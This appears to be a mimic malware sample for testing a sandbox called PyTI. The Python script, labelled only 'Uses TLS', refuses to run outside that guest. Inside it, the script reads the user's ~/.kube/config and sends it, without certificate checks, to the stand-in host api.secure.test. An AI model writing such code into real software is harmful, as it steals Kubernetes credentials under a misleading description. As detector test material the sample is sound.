"""Uses TLS."""

import os
import ssl
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
with open(os.path.expanduser("~/.kube/config"), "rb") as file:
    found = file.read()
request = urllib.request.Request("https://api.secure.test/v1", found)
try:
    urllib.request.urlopen(request, timeout=5, context=ssl._create_unverified_context()).close()
except OSError:
    pass
